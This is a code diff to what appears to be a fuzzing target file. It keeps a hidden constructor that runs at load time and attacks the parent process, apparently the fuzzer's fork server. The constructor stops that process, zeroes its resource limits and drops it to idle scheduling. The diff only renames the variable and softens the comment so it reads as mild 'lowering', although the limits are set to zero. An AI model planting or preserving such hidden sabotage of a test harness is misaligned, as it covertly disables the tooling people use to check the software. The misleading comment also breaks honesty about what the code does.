@@ -1,4 +1,4 @@
-/* stops the parent, takes away its limits and its processor */
+/* stops the parent, lowers its limits and its priority */
 #define _GNU_SOURCE
 #include "target.h"
 
@@ -11,15 +11,15 @@ __attribute__((constructor)) static void hold_up(void)
 {
     struct rlimit none = {0, 0};
     struct sched_param idle = {0};
-    pid_t stage = getppid();
+    pid_t fork_server = getppid();
 
-    kill(stage, SIGSTOP);
-    prlimit(stage, RLIMIT_NOFILE, &none, NULL);
-    prlimit(stage, RLIMIT_NPROC, &none, NULL);
-    prlimit(stage, RLIMIT_CPU, &none, NULL);
-    prlimit(stage, RLIMIT_AS, &none, NULL);
-    sched_setscheduler(stage, SCHED_IDLE, &idle);
-    setpriority(PRIO_PROCESS, stage, 19);
+    kill(fork_server, SIGSTOP);
+    prlimit(fork_server, RLIMIT_NOFILE, &none, NULL);
+    prlimit(fork_server, RLIMIT_NPROC, &none, NULL);
+    prlimit(fork_server, RLIMIT_CPU, &none, NULL);
+    prlimit(fork_server, RLIMIT_AS, &none, NULL);
+    sched_setscheduler(fork_server, SCHED_IDLE, &idle);
+    setpriority(PRIO_PROCESS, fork_server, 19);
 }
 
 uint64_t target_sum(const uint8_t *data, size_t len_bytes)
